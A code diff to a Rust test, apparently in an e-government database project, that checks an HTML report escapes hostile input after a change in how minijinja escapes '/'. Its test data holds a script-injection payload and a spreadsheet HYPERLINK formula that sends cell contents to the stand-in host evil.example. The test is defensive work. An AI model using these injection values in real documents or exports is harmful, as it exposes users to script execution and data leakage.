@@ -298,8 +298,11 @@ egov_db::backend_tests! {
         let html = report.to_html();
         assert!(html.starts_with("<!DOCTYPE html>"));
         assert!(!html.to_ascii_lowercase().contains("<script"), "{html}");
-        assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt; 민원 회신"));
-        assert!(html.contains("=HYPERLINK(&quot;http://evil.example/?q=&quot;&amp;A1,&quot;click&quot;)"));
+        // minijinja's HTML escaping also writes `/` as `&#x2f;`.
+        assert!(html.contains("&lt;script&gt;alert(1)&lt;&#x2f;script&gt; 민원 회신"), "{html}");
+        assert!(html.contains(
+            "=HYPERLINK(&quot;http:&#x2f;&#x2f;evil.example&#x2f;?q=&quot;&amp;A1,&quot;click&quot;)"
+        ));
         assert!(html.contains("[missing_reason]"));
         assert!(html.contains(&f.c.id.clone().unwrap()));
         assert!(!html.contains("http-equiv") && !html.contains(" src=") && !html.contains(" href="));
